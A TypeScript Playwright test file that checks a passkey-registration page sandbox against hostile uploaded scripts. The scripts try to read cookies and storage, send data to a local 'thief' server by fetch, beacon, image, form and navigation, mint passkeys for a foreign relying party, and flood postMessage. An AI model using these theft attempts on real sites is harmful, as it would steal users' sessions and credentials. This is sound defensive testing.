import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FrameLocator } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { uploadPage } from './support/page-process.ts';
import { type PageWorld, pageWorld } from './support/page-world.ts';

let world: PageWorld;
beforeAll(async () => {
  world = await pageWorld();
});
afterAll(() => world.close());

describe('a hostile page', () => {
  let thief: Server;
  const stolen: string[] = [];

  beforeAll(async () => {
    thief = createServer((request, response) => {
      stolen.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*');
      response.end('<h1>Thief</h1>');
    });
    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => {
    thief.closeAllConnections();
    thief.close();
  });

  /** Tries what `script` says, in an async function, and sends what came of each try. */
  async function hostile(name: string, script: string) {
    const { port } = thief.address() as AddressInfo;
    const app = `const tried = {};
      const attempt = async (name, work) => {
        const patience = new Promise((resolve) => setTimeout(resolve, 20_000, 'no answer'));
        try { tried[name] = String((await Promise.race([work(), patience])) ?? 'nothing'); } catch (error) { tried[name] = error.name; }
      };
      const thief = 'http://127.0.0.1:${port}';
      const host = '${world.latchkey.baseUrl}';
      addEventListener('message', async ({ data }) => {
        if (data.event !== 'message') return;
        const request = data.variables.constants.passkeyRegClientRequest;
        ${script}
        document.body.append(Object.assign(document.createElement('pre'), { textContent: JSON.stringify(tried) }));
      });
      parent.postMessage({ event: 'READY' }, '*');`;
    await uploadPage(world.api, name, [
      {
        name: 'index.html',
        text: '<form method="post"><button>Go</button></form><script src="app.js"></script>',
      },
      { name: 'app.js', text: app },
    ]);
    return world.personAt(name);
  }
  const triedBy = async (frame: FrameLocator) =>
    JSON.parse((await frame.locator('pre').textContent()) ?? '{}') as Readonly<Record<string, string>>;

  test('reaches neither cookies nor storage, the page around, the top, a window, the API or a foreign host', async () => {
    const { page, frame, authenticator } = await hostile(
      'hostileReach',
      `await attempt('cookie', () => document.cookie);
       await attempt('storage', () => localStorage.length);
       await attempt('session', () => sessionStorage.length);
       await attempt('database', () => indexedDB.open('x').constructor.name);
       await attempt('cache', () => caches.open('x'));
       await attempt('set-cookie', () => { document.cookie = 'a=b'; });
       await attempt('parent', () => parent.document.title);
       await attempt('top', () => { top.location = thief + '/top'; });
       await attempt('open', () => open(thief + '/open'));
       await attempt('same-origin', () => fetch(host + '/api/audit', { credentials: 'include' }));
       await attempt('foreign', () => fetch(thief + '/fetch'));
       await attempt('beacon', () => navigator.sendBeacon(thief + '/beacon', 'x'));
       await attempt('worker', () => new Worker('app.js').constructor.name);
       await attempt('original', () => CredentialsContainer.prototype.create.call(navigator.credentials, {
         publicKey: PublicKeyCredential.parseCreationOptionsFromJSON(request) }));
       new Image().src = thief + '/image';
       await new Promise((resolve) => setTimeout(resolve, 300));`,
    );
    const tried = await triedBy(frame);
    expect(tried).toMatchObject({
      cookie: 'SecurityError',
      storage: 'SecurityError',
      session: 'SecurityError',
      parent: 'SecurityError',
      open: 'nothing',
      'same-origin': 'TypeError',
      foreign: 'TypeError',
      worker: 'SecurityError',
      original: 'NotAllowedError',
    });
    expect(tried.top).toBe('SecurityError');
    expect(new URL(page.url()).origin).toBe(world.latchkey.baseUrl);
    expect(page.context().pages()).toHaveLength(1);
    expect(stolen).toEqual([]);
    expect(await authenticator.credentials()).toEqual([]);
    await expect
      .poll(async () => (await world.refusedAbout(page)).toSorted())
      .toEqual([
        'cache-storage',
        // fetch to the platform, fetch to the thief, beacon.
        'connect-src',
        'connect-src',
        'connect-src',
        'cookie',
        'database',
        'img-src',
        'local-storage',
        'navigation',
        'other-window',
        'prompt',
        'session-storage',
        'window',
        'worker',
      ]);
    expect(new Set(await world.refusalsOf(page))).toEqual(
      new Set(['page.forbidden-access', 'page.policy-violation']),
    );
    await page.context().close();
  });

  test('finds no way round what watches it: no frame of its own, no event to stop', async () => {
    const { page, frame } = await hostile(
      'hostileRealm',
      `addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true);
       const inner = document.createElement('iframe');
       document.body.append(inner);
       await attempt('realm', () => inner.contentWindow.document.cookie);
       await attempt('fetch', () => fetch(thief + '/realm'));`,
    );
    expect(await triedBy(frame)).toEqual({ realm: 'SecurityError', fetch: 'TypeError' });
    expect(stolen).toEqual([]);
    await expect
      .poll(async () => (await world.refusedAbout(page)).toSorted())
      .toEqual(['connect-src', 'other-window']);
    await page.context().close();
  });

  test.each(['post', 'get'])('sends no form by %s', async (method) => {
    const { page, frame } = await hostile(
      `hostileForm-${method}`,
      `const form = Object.assign(document.createElement('form'), { method: '${method}', action: thief + '/form' });
       document.body.append(form);
       form.submit();`,
    );
    await expect.poll(() => world.refusalsOf(page)).toContain('page.policy-violation');
    expect(await frame.getByText('Thief').count()).toBe(0);
    expect(stolen).toEqual([]);
    await page.context().close();
  });

  test('cannot leave for another site and be given what it was not', async () => {
    const { page, frame } = await hostile('hostileAway', "location.href = thief + '/away';");
    await expect.poll(() => world.refusalsOf(page)).toEqual(['page.policy-violation']);
    expect(await frame.getByText('Thief').count()).toBe(0);
    expect(stolen).toEqual([]);
    await page.context().close();
  });

  test('gets no passkey for another relying party or challenge, whatever it shows', async () => {
    const { page, frame, authenticator } = await hostile(
      'hostileCeremony',
      `const options = (change) => ({ publicKey: { ...PublicKeyCredential.parseCreationOptionsFromJSON(request), ...change } });
       await attempt('other-rp', () => navigator.credentials.create(options({ rp: { id: 'example.org', name: 'passkeyConfig' } })));
       await attempt('other-challenge', () => navigator.credentials.create(options({ challenge: new Uint8Array(64) })));
       await attempt('no-challenge', () => navigator.credentials.create({ publicKey: {} }));
       await attempt('password', () => navigator.credentials.create({ password: { id: 'a', password: 'b' } }));`,
    );
    const tried = await triedBy(frame);
    expect(tried).toEqual({
      'other-rp': 'SecurityError',
      'other-challenge': 'NotAllowedError',
      'no-challenge': 'TypeError',
      password: 'NotSupportedError',
    });
    expect(await page.getByRole('button', { name: 'Create passkey' }).count()).toBe(0);
    expect(await authenticator.credentials()).toEqual([]);
    await expect
      .poll(() => world.refusalsOf(page))
      .toEqual(['page.other-relying-party', 'page.unknown-challenge']);
    await page.context().close();
  });

  test('gains nothing by large or foreign messages and by sending twice: the first SEND counts', async () => {
    const { page } = await hostile(
      'hostileMessages',
      `parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse: 'x'.repeat(1_000_000) } }, '*');
       parent.postMessage({ event: 'DELETE' }, '*');
       parent.postMessage('SEND', '*');
       parent.postMessage({ event: 'SEND', variables: [1] }, '*');
       parent.postMessage({ event: 'LATCHKEY' }, '*');
       parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse: null, number: 1 } }, '*');
       parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse: null, number: 2 } }, '*');`,
    );
    await page.getByRole('heading', { name: 'User cancelled the process' }).waitFor();
    const { pages } = (await world.dataOf(page))._customPages.registrationPage;
    expect(Object.values(pages)).toMatchObject([{ variables: { number: 1 } }]);
    await expect
      .poll(() => world.refusalsOf(page))
      .toEqual([
        'page.invalid-message',
        'page.invalid-message',
        'page.invalid-message',
        'page.invalid-message',
        'page.message-too-large',
        'page.sent-again',
      ]);
    await page.context().close();
  });

  test('learns no more when its address is opened directly', async () => {
    const { page } = await hostile('hostileDirect', '');
    const url = (await page.locator('iframe').getAttribute('src')) ?? '';
    await page.goto(url);
    expect(await page.evaluate('origin')).toBe('null');
    expect(
      await page.evaluate('(() => { try { return document.cookie } catch (error) { return error.name } })()'),
    ).toBe('SecurityError');
    await page.context().close();
  });
});
